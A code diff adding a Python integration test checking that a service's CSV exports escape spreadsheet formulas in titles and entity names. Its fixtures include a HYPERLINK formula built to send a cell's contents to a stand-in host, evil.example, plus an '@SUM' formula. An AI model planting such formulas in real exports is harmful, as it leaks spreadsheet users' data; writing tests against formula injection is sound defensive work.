@@ -5,6 +5,8 @@ Each route's answer is what its response model (`/docs`) says; the detail routes
 same JSON they did before they had models (the query's row, serialized as a plain dict)."""
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from datetime import timedelta
 from pathlib import Path
@@ -184,3 +186,36 @@ async def test_readiness_turns_draining_when_the_archiver_stops(
             readiness = running.archiver.readiness
         report = await asyncio.wait_for(readiness.report(), 5)
     assert report.model_dump() == {"status": "draining", "checks": {}}
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+FORMULA_NAME = "@SUM(1+1)"
+
+
+async def test_csv_exports_quote_cells_a_spreadsheet_would_run(
+    rabbit_url: str, topology: Topology, fresh_database: str, tmp_path: Path
+) -> None:
+    hostile = analyzed(
+        FORMULA_TITLE,
+        "A document whose author hopes an analyst exports it to a spreadsheet.",
+        published_at=T0,
+        entities=(("company", FORMULA_NAME, 10.0),),
+    )
+    async with fake_embedding_gateway(tmp_path) as gateway:
+        settings = archiver_settings(rabbit_url, topology.namespace, fresh_database, gateway.url)
+        async with running_archiver(settings) as running:
+            await publish_all(rabbit_url, topology, [hostile])
+
+            async def stored() -> bool:
+                return handled(running.archiver) >= 1
+
+            await wait_for(stored, timeout=60)
+            async with running.http() as http:
+                csv_params = {"window_days": 3650, "format": "csv"}
+                rankings = await http.get("/v1/rankings", params=csv_params)
+                hits = await http.get("/v1/search", params={"q": "spreadsheet", "format": "csv"})
+    [ranked] = list(csv.DictReader(io.StringIO(rankings.text, newline="")))
+    assert ranked["name"] == f"'{FORMULA_NAME}"
+    assert ranked["mean_score"] == "10.0"
+    [hit] = list(csv.DictReader(io.StringIO(hits.text, newline="")))
+    assert hit["title"] == f"'{FORMULA_TITLE}"
